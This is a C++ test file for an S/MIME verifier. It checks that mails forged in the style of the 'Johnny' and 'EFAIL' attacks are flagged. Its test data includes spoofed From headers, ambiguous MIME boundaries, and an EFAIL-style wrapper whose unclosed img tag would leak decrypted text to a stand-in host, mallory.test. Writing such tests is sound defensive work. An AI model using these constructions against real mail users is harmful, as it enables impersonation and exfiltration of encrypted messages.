// Mails that want to pass for Alice's because she signed something in them, after the attacks known as
// "Johnny" and "EFAIL". None of them is signed by her, or it says what speaks against it.
#include "tests/smime/reading.h"

namespace signet::smime {
namespace {

using test::Findings;
using test::plain_mail;

class Impersonation : public test::ReadingTest {
  protected:
    // What Alice really signed, under a header of the attacker's.
    std::string under(const std::string& header) const {
        return header + "MIME-Version: 1.0\r\n" + m_signed_entity;
    }
    // What `signet verify` says, which looks at the outermost signature only.
    std::string verdict(const std::string& mail) const {
        return test::verdict(mail, test::trusting(m_authority));
    }
    Findings findings_from(const std::string& from) const {
        return findings(under("From: " + from + "\r\n"));
    }
    // application/pkcs7-mime that holds these octets.
    std::string opaque_payload(const std::string& payload) const {
        SignOptions options = test::sign_options(m_alice);
        options.form = SignatureForm::opaque;
        TextSink cms;
        EXPECT_TRUE(sign_content(TextSource(payload), cms, options));
        return "Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n"
               "Content-Transfer-Encoding: base64\r\n\r\n" +
               to_base64(as_bytes(cms.text())) + "\r\n";
    }
    static std::string in_multipart(const std::string& subtype, const std::vector<std::string>& parts) {
        std::string mail =
            "From: Alice <alice@example.test>\r\nContent-Type: multipart/" + subtype + "; boundary=o\r\n\r\n";
        for (const std::string& part : parts) {
            mail += "--o\r\n" + part + "\r\n";
        }
        return mail + "--o--\r\n";
    }

    const std::string m_signed_entity = entity_of(signed_mail());
};

TEST_F(Impersonation, OfNobodyIsGood) {
    for (const char* from : {"alice@example.test", "Alice <alice@example.test>", "<ALICE@Example.Test>",
                             "\"Alice @ Work\" <alice@example.test>", "alice@example.test (Alice at home)",
                             "=?utf-8?q?Al=C3=AFce?= <alice@example.test>", "Us: Alice <alice@example.test>;",
                             "\"alice@example.test\" <alice@example.test>",
                             "\"J. R. \\\"Al\\\" Alice (at work).\" <alice@example.test>",
                             "\"alice\\@example.test\" <alice@example.test>", "alice @ example.test",
                             "Alice <alice@example.test>,\r\n alice@example.test"}) {
        EXPECT_EQ(findings_from(from), Findings{}) << from;
    }
}

TEST_F(Impersonation, ByTheNameInFromIsNoticed) {
    for (const char* from : {"\"bob@example.test\" <alice@example.test>",
                             "bob@example.test <alice@example.test>",
                             "\"Bob <bob@example.test>\" <alice@example.test>",
                             "=?utf-8?q?bob=40example.test?= <alice@example.test>",
                             "=?utf-8?b?Ym9iQGV4YW1wbGUudGVzdA==?= <alice@example.test>",
                             "=?utf-8?q?bob=EF=BC=A0example.test?= <alice@example.test>",
                             "\"bob\\@example.test\" <alice@example.test>",
                             "\"bob\"@example.test <alice@example.test>",
                             "\"b\\ob@example\\.test\" <alice@example.test>",
                             "bob@ example.test <alice@example.test>",
                             "\"bob @ example . test\" <alice@example.test>",
                             "bob@(at)example.test <alice@example.test>",
                             "bob@\r\n example.test <alice@example.test>",
                             "=?utf-8?q?bob=40example=E3=80=82test?= <alice@example.test>",
                             "\"bob\xef\xbc\xa0"
                             "example\xef\xbc\x8etest\" <alice@example.test>",
                             "\"bob@example\xef\xbd\xa1"
                             "test\" <alice@example.test>",
                             "\"bob@example\xe2\x80\xa4test\" <alice@example.test>",
                             "\"=?utf-8?q?bob=40example=2Etest?=\" <alice@example.test>",
                             "=?utf-8?q?=22bob=5C=40example=2Etest=22?= <alice@example.test>",
                             "alice@example.test (bob@example.test)",
                             "(bob@example.test) alice@example.test",
                             "\"bob@example\xef\xbd\xa5test\" <alice@example.test>",
                             "\"bob@example\xe2\x80\xa7test\" <alice@example.test>",
                             "\"bob@example\xc2\xb7test\" <alice@example.test>",
                             "\"bob@[192.0.2.1]\" <alice@example.test>",
                             "\"bob@[IPv6:2001:db8::1]\" <alice@example.test>",
                             "\"\xe2\x80\xaemoc.live@eve\xe2\x80\xac\" <alice@example.test>",
                             "\xe2\x80\xaemoc live eve\xe2\x80\xac <alice@example.test>",
                             "=?utf-8?q?=E2=81=A7moc_live_eve?= <alice@example.test>",
                             "=?utf-8?b?4oCP?= Alice <alice@example.test>",
                             "alice@example.test (\xd8\x9c)",
                             "\"moc.live@eve\" <alice@example.test>",
                             "bob@example.test: alice@example.test;"}) {
        EXPECT_EQ(findings_from(from), Findings{"address_mismatch 1"}) << from;
        EXPECT_EQ(verdict(under("From: " + std::string(from) + "\r\n")), "address_mismatch") << from;
    }
}

TEST_F(Impersonation, ByAnotherSubjectThanTheProtectedOneIsNoticed) {
    SignOptions options = test::sign_options(m_alice);
    options.header_protection = HeaderProtection::clear;
    for (const auto form : {SignatureForm::detached, SignatureForm::opaque}) {
        options.form = form;
        const std::string mail =
            test::sign("From: alice@example.test\r\nSubject: Lunch at\r\n noon\r\n\r\nBe there!\r\n", options)
                .value();
        EXPECT_EQ(verdict(mail), "good");
        EXPECT_EQ(verdict(std::string(mail).replace(mail.find("Lunch"), 5, "Money")), "header_mismatch");
        EXPECT_EQ(verdict(std::string(mail).replace(mail.find("at\r\n noon"), 9, "at noon")), "good");
        EXPECT_EQ(verdict("Subject: Money\r\n" + mail), "header_mismatch");
    }
}

TEST_F(Impersonation, ByAnotherAddressInFromIsNoticed) {
    for (const char* from :
         {"Alice <bob@example.test>", "alice@example.test <bob@example.test>",
          "alice@example.test, bob@example.test", "bob@example.test, alice@example.test",
          "Us: alice@example.test, bob@example.test;", "Nobody:;", "",
          "<alice@example.test> <bob@example.test>", "<bob@example.test> <alice@example.test>",
          "\"alice@example.test\"@evil.test", "<@example.test:alice@evil.test>",
          "alice@example.test@evil.test", "alice@example.test.evil.test", "evil+alice@example.test",
          "alice@ex\xd0\xb0mple.test",
          "=?utf-8?q?alice=40example.test?=", "=?utf-8?q?alice=40example.test=00?=@evil.test",
          "=?utf-8?b?YWxpY2VAZXhhbXBsZS50ZXN0?=@evil.test"}) {
        EXPECT_EQ(findings_from(from), Findings{"address_mismatch 1"}) << from;
    }
}

TEST_F(Impersonation, ByASecondFieldIsNoticed) {
    const std::string alice = "From: alice@example.test\r\n";
    for (const char* field :
         {"From: bob@example.test\r\n", "from: bob@example.test\r\n", "From : bob@example.test\r\n",
          "From\t: bob@example.test\r\n", "FROM:\r\n bob@example.test\r\n", "Sender: bob@example.test\r\n",
          "From: alice@example.test\r\n"}) {
        EXPECT_EQ(findings(under(alice + field)), Findings{"address_mismatch 1"}) << field;
        EXPECT_EQ(findings(under(field + alice)), Findings{"address_mismatch 1"}) << field;
    }
}

TEST_F(Impersonation, ByLinesThatReadersTakeDifferentlyIsNoticed) {
    using namespace std::string_literals;
    const std::string alice = "From: alice@example.test\r\n";
    for (const std::string& lines :
         {" From: bob@example.test\r\n"s + alice, alice + "From bob@example.test\r\n",
          alice + "Fr\xc3\xb6m: bob@example.test\r\n", alice + "From\0: bob@example.test\r\n"s,
          alice + "X: y\rFrom: bob@example.test\r\n", alice + "From: bob@example.test\r\r\n"}) {
        EXPECT_FALSE(claims(under(lines)).good) << lines;
    }
}

TEST_F(Impersonation, ByASecondContentTypeIsNoticed) {
    const std::string alice = "From: alice@example.test\r\n";
    for (const char* field : {"Content-Type: text/plain\r\n", "content-type : text/html\r\n",
                              "Content-Type: multipart/mixed; boundary=b\r\n"}) {
        EXPECT_FALSE(claims(alice + field + m_signed_entity).good) << field;
        EXPECT_FALSE(
            claims(std::string(m_signed_entity).insert(m_signed_entity.find("\r\n\r\n") + 2, field)).good)
            << field;
    }
}

TEST_F(Impersonation, ByASecondBoundaryOrProtocolIsNoticed) {
    const std::string mail = signed_mail();
    const auto with_parameter = [&mail](const std::string& parameter) {
        return std::string(mail).insert(mail.find("; boundary="), "; " + parameter);
    };
    ASSERT_TRUE(claims(with_parameter("x=\"y\\z\"")).good);
    for (const char* parameter :
         {"boundary=YY", "Boundary=\"YY\"", "boundary*=us-ascii''YY", "boundary*0=YY", "boundary*1=YY",
          "boundary*0*=us-ascii''YY", "boundary (x) =YY", "boundary\r\n\t= YY", "(\\)boundary=YY",
          "x=\"\\\"; boundary=YY", "protocol=\"application/pgp-signature\"",
          "protocol*=us-ascii''application%2Fpgp-signature", "micalg*0=sha-1"}) {
        const std::string ambiguous = with_parameter(parameter);
        EXPECT_FALSE(claims(ambiguous).good) << parameter;
        EXPECT_NE(verdict(ambiguous), "good") << parameter;
    }
}

TEST_F(Impersonation, ByATransferEncodingOfAMultipartIsNoticed) {
    for (const char* encoding : {"base64", "Quoted-Printable", "x-uuencode", ""}) {
        const std::string field = "Content-Transfer-Encoding: " + std::string(encoding) + "\r\n";
        EXPECT_FALSE(claims(field + signed_mail()).good) << encoding;
        EXPECT_NE(verdict(field + signed_mail()), "good") << encoding;
    }
    for (const char* encoding : {"7bit", "8BIT", "binary (as it is)"}) {
        const std::string field = "Content-Transfer-Encoding: " + std::string(encoding) + "\r\n";
        EXPECT_EQ(verdict(field + signed_mail()), "good") << encoding;
    }
}

TEST_F(Impersonation, ByASecondTransferEncodingIsNoticed) {
    const std::string opaque = signed_mail(plain_mail(), SignatureForm::opaque);
    ASSERT_TRUE(claims(opaque).good);
    EXPECT_FALSE(claims("Content-Transfer-Encoding: 7bit\r\n" + opaque).good);
    EXPECT_FALSE(claims("Content-Transfer-Encoding : quoted-printable\r\n" + opaque).good);
}

TEST_F(Impersonation, ByOneSignedAlternativeIsNoticed) {
    const std::string html = "Content-Type: text/html\r\n\r\n<p>Pay Mallory.</p>\r\n";
    EXPECT_EQ(findings(in_multipart("alternative", {html, m_signed_entity})),
              (Findings{"signature_in_multipart 1.2", "unsigned_text_around_signature 1.2"}));
    EXPECT_EQ(findings(in_multipart("alternative", {m_signed_entity, html})),
              (Findings{"signature_in_multipart 1.1", "unsigned_text_around_signature 1.1"}));
}

TEST_F(Impersonation, ByAPartThatRefersToASignedOneIsNoticed) {
    const std::string html =
        "Content-Type: text/html\r\n\r\n<p>Pay Mallory.</p><iframe src=\"cid:letter\"></iframe>\r\n";
    EXPECT_EQ(findings(in_multipart("related", {html, "Content-ID: <letter>\r\n" + m_signed_entity})),
              (Findings{"signature_in_multipart 1.2", "unsigned_text_around_signature 1.2"}));
    const std::string letter = entity_of(signed_mail(
        "From: alice@example.test\r\nContent-Type: text/html\r\n\r\n<img src=\"cid:order\">\r\n"));
    const std::string image = "Content-Type: image/svg+xml\r\nContent-ID: <order>\r\n\r\n<svg>Pay!</svg>\r\n";
    EXPECT_EQ(findings(in_multipart("related", {letter, image})), Findings{"signature_in_multipart 1.1"});
}

TEST_F(Impersonation, ByAnAttachedOrForwardedMailIsNoticed) {
    const std::string forwarded = "Content-Type: message/rfc822\r\n\r\n" + signed_mail();
    const std::string text = "\r\nSee below.\r\n";
    EXPECT_EQ(findings("From: alice@example.test\r\n" + forwarded),
              Findings{"signature_in_forwarded_mail 1.1"});
    EXPECT_EQ(findings(in_multipart("mixed", {text, forwarded})),
              Findings{"signature_in_forwarded_mail 1.2.1"});
    EXPECT_EQ(findings(in_multipart("mixed", {"Content-Disposition: attachment\r\n" + forwarded})),
              Findings{"signature_in_forwarded_mail 1.1.1"});
    EXPECT_FALSE(claims(in_multipart("digest", {"\r\n" + signed_mail()})).good);
}

TEST_F(Impersonation, ByAnAttachedSignatureIsNoticed) {
    const std::string attached = "Content-Disposition: attachment; filename=letter.eml\r\n" + m_signed_entity;
    EXPECT_EQ(findings(in_multipart("mixed", {"\r\nPay Mallory.\r\n", attached})),
              (Findings{"signed_attachment_poses_as_mail 1.2", "unsigned_text_around_signature 1.2"}));
    const std::string opaque = entity_of(signed_mail(plain_mail(), SignatureForm::opaque));
    EXPECT_EQ(findings(in_multipart("mixed", {"\r\nPay Mallory.\r\n", opaque})),
              (Findings{"signed_attachment_poses_as_mail 1.2", "unsigned_text_around_signature 1.2"}));
}

TEST_F(Impersonation, ByTextAroundTheSignedPartsIsNoticed) {
    const std::string mail = signed_mail();
    EXPECT_EQ(findings(mail + "-- \r\nA mailing list\r\n"), Findings{"unsigned_text_around_signature 1"});
    const std::size_t last = mail.rfind("\r\n--");
    const std::string boundary = mail.substr(last, mail.rfind("--") - last);
    const std::string third = boundary + "\r\nContent-Type: text/plain\r\n\r\nA mailing list\r\n";
    EXPECT_EQ(findings(std::string(mail).insert(last, third)), Findings{"malformed_signature 1"});
    EXPECT_EQ(findings(encrypted_mail(mail + "Pay Mallory.\r\n")),
              (Findings{"not_authenticated 1", "unsigned_text_around_signature 1.1"}));
    EXPECT_EQ(findings(in_multipart("mixed", {m_signed_entity, "\r\nA mailing list\r\n"})),
              (Findings{"signature_in_multipart 1.1", "unsigned_text_around_signature 1.1"}));
}

TEST_F(Impersonation, ByPartsInAnotherOrderIsNoticed) {
    const std::string mail = signed_mail();
    const std::size_t parameter = mail.find("boundary=\"") + 10;
    const std::string boundary = "--" + mail.substr(parameter, mail.find('"', parameter) - parameter);
    const std::size_t first = mail.find(boundary + "\r\n");
    const std::size_t second = mail.find(boundary + "\r\n", first + 1);
    const std::size_t last = mail.find(boundary + "--");
    EXPECT_EQ(findings(mail.substr(0, first) + mail.substr(second, last - second) +
                       mail.substr(first, second - first) + mail.substr(last)),
              Findings{"malformed_signature 1"});
}

TEST_F(Impersonation, ByBoundariesThatBeginAlikeIsNoticed) {
    // The attacker's boundary is the beginning of the one in what Alice signed.
    const std::string letter =
        "Content-Type: multipart/alternative; boundary=bb\r\n\r\n--bb\r\n\r\nyes\r\n--bb--\r\n";
    const std::string mail = "From: alice@example.test\r\n" + signed_payload(letter);
    EXPECT_TRUE(claims(mail).good);
    EXPECT_FALSE(claims(std::string(mail).replace(mail.find("--bb\r\n"), 6, "--b\r\n")).good);
    // In Alice's text stands what old programs take for a boundary.
    const std::string text = "Content-Type: text/plain\r\n\r\nyes\r\n--b2\r\n\r\nno\r\n--b--x\r\n";
    const auto claimed = claims("From: alice@example.test\r\n" + signed_payload(text));
    EXPECT_TRUE(!claimed.good || claimed.protected_parts.find("no\r\n--b--x") != std::string::npos);
}

TEST_F(Impersonation, ByPartsOfAMailElsewhereIsNoticed) {
    for (const char* type :
         {"message/partial; id=\"x@example.test\"; number=1; total=1",
          "message/external-body; access-type=URL; URL=\"http://mallory.test/\"", "text/plain",
          "application/octet-stream; name=mail.eml", "message/rfc822\r\nContent-Transfer-Encoding: base64",
          "multipart/signed; boundary=none; protocol=\"application/pkcs7-signature\"",
          "multipart/signed; protocol=\"application/pkcs7-signature\""}) {
        EXPECT_FALSE(claims("From: alice@example.test\r\nContent-Type: " + std::string(type) + "\r\n\r\n" +
                            signed_mail())
                         .good)
            << type;
    }
}

TEST_F(Impersonation, ByAnotherSignatureAroundOrInsideIsNoticed) {
    signet::test::TestAuthority stranger("Stranger");
    const auto mallory = stranger.issue_identity("P-256", "alice@example.test");
    const auto around = test::sign(signed_mail(), test::sign_options(mallory)).value();
    EXPECT_EQ(findings(around), (Findings{"nested_signatures 1.1", "untrusted_chain 1"}));
    const auto inside = signed_mail(test::sign(plain_mail(), test::sign_options(mallory)).value());
    EXPECT_EQ(findings(inside), (Findings{"nested_signatures 1.1", "untrusted_chain 1.1"}));
    EXPECT_FALSE(claims(around).good || claims(inside).good);
}

TEST_F(Impersonation, ByTheSignatureOfAnotherProtocolIsNoticed) {
    const std::string pgp = "application/pgp-signature";
    std::string mail = signed_mail();
    mail.replace(mail.find("application/pkcs7-signature"), 27, pgp);
    EXPECT_FALSE(claims(mail).good);
    mail.replace(mail.find("application/pkcs7-signature"), 27, pgp);
    EXPECT_FALSE(claims(mail).good);
}

TEST_F(Impersonation, ByTextAroundEncryptionTellsNothingToAnybody) {
    const std::string secret = encrypted_payload("Content-Type: text/html\r\n\r\nthe secret\r\n");
    const std::string open = "Content-Type: text/html\r\n\r\n<img src=\"http://mallory.test/?";
    const std::string mail = in_multipart("mixed", {open, secret, "Content-Type: text/html\r\n\r\n\">"});
    const auto claimed = claims(mail);
    EXPECT_FALSE(claimed.good || claimed.encrypted);
    EXPECT_TRUE(claimed.not_authenticated);
    EXPECT_EQ(claimed.protected_parts, "1.2.1 text/html \nthe secret\r\n");
    EXPECT_TRUE(claimed.findings.contains("encrypted_part 1.2"));
}

TEST_F(Impersonation, BySigningTheCiphertextOfSomebodyElseIsNoticed) {
    for (const auto form : {SignatureForm::detached, SignatureForm::opaque}) {
        const std::string mail = signed_mail(encrypted_mail(plain_mail()), form);
        EXPECT_EQ(findings(mail), (Findings{"not_authenticated 1.1", "signature_outside_encryption 1"}));
        EXPECT_EQ(verdict(mail), "signature_outside_encryption");
        EXPECT_EQ(verdict(signed_mail(signed_mail(encrypted_mail(plain_mail())), form)),
                  "signature_outside_encryption");
        EXPECT_EQ(verdict("Sender: mallory@example.test\r\n" + mail), "address_mismatch");
    }
}

TEST_F(Impersonation, BySigningAPartThatSomebodyElseEncryptedIsNoticed) {
    const std::string secret = encrypted_payload("Content-Type: text/plain\r\n\r\nthe secret\r\n");
    const std::string text = "Content-Type: text/plain\r\n\r\nSee below.\r\n";
    const std::string octets =
        "Content-Type: application/octet-stream; name=smime.p7m" + secret.substr(secret.find("\r\n"));
    const std::string nested =
        "Content-Type: multipart/related; boundary=r\r\n\r\n--r\r\n" + secret + "\r\n--r--\r\n";
    for (const auto& parts :
         std::vector<std::vector<std::string>>{{secret}, {text, secret}, {octets, text}, {nested}}) {
        for (const auto form : {SignatureForm::detached, SignatureForm::opaque}) {
            const std::string mail = signed_mail(in_multipart("mixed", parts), form);
            EXPECT_FALSE(claims(mail).good) << mail;
            EXPECT_TRUE(findings(mail).contains("signature_outside_encryption 1")) << mail;
            EXPECT_EQ(verdict(mail), "signature_outside_encryption") << mail;
        }
    }
}

TEST_F(Impersonation, BySigningWhatHoldsSignaturesOfItsOwnIsNotSeen) {
    const std::string sealed = encrypted_payload(m_signed_entity);
    EXPECT_TRUE(claims(signed_mail(in_multipart("mixed", {sealed}))).good);
    const std::string forwarded =
        "Content-Type: message/rfc822\r\n\r\n" + encrypted_mail(plain_mail(), ContentCipher::aes128_gcm);
    const std::string mail = signed_mail(in_multipart("mixed", {forwarded}));
    EXPECT_TRUE(claims(mail).good);
    EXPECT_EQ(verdict(mail), "good");
}

TEST_F(Impersonation, ByAFieldBesideAProtectedHeaderIsNoticed) {
    const std::string alice = "From: alice@example.test\r\n";
    const std::string date = "Bcc: bob@example.test\r\nX-Spam: no\r\n";
    for (const std::string hp : {"clear", "cipher"}) {
        const std::string signature =
            signed_payload("Content-Type: text/plain; hp=\"" + hp + "\"\r\n" + alice + "\r\ntext\r\n");
        EXPECT_EQ(findings(alice + date + signature), Findings{});
        EXPECT_EQ(verdict(alice + date + signature), "good");
        for (const char* field : {"Reply-To", "To", "cc", "Subject"}) {
            const std::string mail = std::string(field) + ": mallory@example.test\r\n" + alice + signature;
            EXPECT_EQ(findings(mail), Findings{"header_mismatch 1.1"}) << field;
            EXPECT_EQ(verdict(mail), "header_mismatch") << field;
        }
    }
}

TEST_F(Impersonation, ByPartsThatReadersTakeDifferentlyIsNoticedInEveryForm) {
    const std::string ambiguous =
        "Content-Type: text/plain\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n"
        "--m\r\nContent-Type: text/plain\r\n\r\nno\r\n--m--\r\n";
    const std::string alice = "From: alice@example.test\r\n";
    for (const std::string& mail : {alice + signed_payload(ambiguous), alice + opaque_payload(ambiguous)}) {
        EXPECT_TRUE(findings(mail).contains("malformed_signature 1"));
        EXPECT_EQ(verdict(mail), "malformed");
        const std::string around = alice + opaque_payload(entity_of(mail));
        EXPECT_TRUE(findings(around).contains("malformed_signature 1"));
        EXPECT_TRUE(findings(around).contains("malformed_signature 1.1"));
    }
}

}  // namespace
}  // namespace signet::smime
